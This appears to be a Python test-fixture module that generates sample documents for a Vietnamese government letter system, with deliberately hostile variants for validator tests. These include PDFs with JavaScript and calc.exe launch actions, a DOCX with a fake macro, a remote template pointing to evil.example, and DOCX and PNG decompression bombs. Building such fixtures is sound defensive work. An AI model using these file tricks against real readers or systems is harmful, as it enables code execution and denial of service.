"""Real files made on the spot: sound ones, and each kind of bad one (issue 2 §7.5)."""

from __future__ import annotations

import io
import os
import zipfile
import zlib
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pikepdf
from asn1crypto import algos, cms
from PIL import Image

from documents.engine.files import docx_template, typeset

LETTER: dict[str, object] = {
    "higher_name": "Tỉnh Khuê Giang",
    "organisation_name": "Ủy ban nhân dân xã Tân Khuê",
    "notation": "UBND-VP",
    "place_name": "Tân Khuê",
    "year": "2026",
    "subject": "V/v rà soát thủ tục hành chính quý I năm 2026",
    "to": ["Các phòng chuyên môn thuộc xã"],
    "paragraphs": [
        "Thực hiện chương trình công tác năm 2026, đề nghị các đơn vị rà soát thủ tục hành chính.",
        "Kết quả gửi về Văn phòng trước ngày 31 tháng 3 năm 2026./.",
    ],
    "signature_lines": ["TM. ỦY BAN NHÂN DÂN", "CHỦ TỊCH"],
    "signer_name": "Trần Văn Khuê",
    "recipients": ["Như trên", "Lưu: VT, VP (05 bản)"],
}


def letter_pdf(form: str = "letter_state", **changes: object) -> bytes:
    """A letter in its proper form as PDF/A-2b, with empty places for number and date."""
    at = datetime(2026, 1, 5, tzinfo=UTC)
    return typeset.compile_form(form, {**LETTER, **changes}, at=at)


def letter_docx(name: str = "state_letter", **document: object) -> bytes:
    """A Word letter in its proper form."""
    data = {
        "organisation": {
            "name": LETTER["organisation_name"],
            "higher_name": LETTER["higher_name"],
            "place_name": LETTER["place_name"],
        },
        "document": {
            "kind_name": "Quyết định",
            "bases": [],
            **{
                key: LETTER[key]
                for key in ("notation", "year", "subject", "to", "paragraphs", "recipients")
            },
            **document,
        },
        "signature": {"lines": LETTER["signature_lines"], "name": LETTER["signer_name"]},
    }
    return docx_template.fill(typeset.FORMS / "templates" / f"{name}.docx", data)


def plain_pdf(pages: int = 1, *, change: Any = None, **save: Any) -> bytes:
    """Blank pages; `change(pdf)` may add what it likes."""
    with pikepdf.new() as pdf:
        for _number in range(pages):
            pdf.add_blank_page(page_size=(595, 842))
        if change is not None:
            change(pdf)
        buffer = io.BytesIO()
        pdf.save(buffer, **save)
    return buffer.getvalue()


def _action(action: dict[str, Any]) -> Any:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(action))

    return change


def javascript_pdf() -> bytes:
    return plain_pdf(
        change=_action({"/S": pikepdf.Name.JavaScript, "/JS": "app.alert(1)"}),
        object_stream_mode=pikepdf.ObjectStreamMode.generate,
    )


def launch_pdf() -> bytes:
    return plain_pdf(change=_action({"/S": pikepdf.Name.Launch, "/F": "calc.exe"}))


def embedding_pdf() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.attachments["bang.xlsx"] = b"hidden"

    return plain_pdf(change=change)


def xfa_pdf() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=pdf.make_stream(b"<xdp/>"))

    return plain_pdf(change=change)


def encrypted_pdf(user: str = "bí mật") -> bytes:
    return plain_pdf(encryption=pikepdf.Encryption(owner="chủ", user=user))


def signed_looking_pdf() -> bytes:
    """A PDF with a filled signature field; the signature itself proves nothing."""

    def change(pdf: pikepdf.Pdf) -> None:
        value = pikepdf.Dictionary(
            Type=pikepdf.Name.Sig,
            Filter=pikepdf.Name("/Adobe.PPKLite"),
            ByteRange=[0, 10, 20, 10],
            Contents=b"\x30\x03\x02\x01\x01",
        )
        field = pikepdf.Dictionary(
            FT=pikepdf.Name.Sig, T="ky", V=pdf.make_indirect(value), Rect=[0, 0, 0, 0]
        )
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[pdf.make_indirect(field)], SigFlags=3)

    return plain_pdf(change=change)


def broken_xref_pdf() -> bytes:
    """Complete, but its cross-reference table points beside the objects."""
    data = plain_pdf(3)
    return data.replace(b"%PDF-1.", b"%PDF-1.", 1).replace(b"\n1 0 obj", b"\n\n\n\n1 0 obj", 1)


def package(parts: dict[str, bytes], *, stored: bool = False) -> bytes:
    buffer = io.BytesIO()
    method = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def changed_docx(added: dict[str, bytes], *, content_types: bytes = b"") -> bytes:
    """The letter with parts added or replaced; `content_types` goes before the closing tag."""
    with zipfile.ZipFile(io.BytesIO(letter_docx())) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    types = parts["[Content_Types].xml"].replace(b"</Types>", content_types + b"</Types>")
    return package({**parts, "[Content_Types].xml": types, **added})


def macro_docx() -> bytes:
    return changed_docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + os.urandom(100)})


def bomb_docx(megabytes: int = 30) -> bytes:
    filler = b"<w:p/>" * (megabytes * 1024 * 1024 // 6)
    return changed_docx({"word/document.xml": b"<?xml version='1.0'?><w>" + filler + b"</w>"})


def remote_template_docx(target: str = "https://evil.example/t.dotm") -> bytes:
    rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        '2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/'
        f'officeDocument/2006/relationships/attachedTemplate" Target="{target}" '
        'TargetMode="External"/></Relationships>'
    )
    return changed_docx({"word/_rels/settings.xml.rels": rels.encode()})


def picture(form: str = "PNG", size: tuple[int, int] = (300, 200)) -> bytes:
    buffer = io.BytesIO()
    Image.frombytes("RGB", size, os.urandom(size[0] * size[1] * 3)).save(buffer, form)
    return buffer.getvalue()


def bomb_png(side: int = 40_000) -> bytes:
    """Says that it is 1.6 thousand million dots; holds some kilobytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")
        )

    head = side.to_bytes(4, "big") * 2 + b"\x01\x00\x00\x00\x00"
    rows = zlib.compress(b"\0" * 100_000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def detached_signature() -> bytes:
    """A CMS SignedData without signers, DER."""
    signed = cms.SignedData(
        {
            "version": "v1",
            "digest_algorithms": [algos.DigestAlgorithm({"algorithm": "sha256"})],
            "encap_content_info": {"content_type": "data"},
            "signer_infos": [],
        }
    )
    content: bytes = cms.ContentInfo({"content_type": "signed_data", "content": signed}).dump()
    return content


def write(folder: Path, name: str, data: bytes) -> Path:
    path = folder / name
    path.write_bytes(data)
    return path
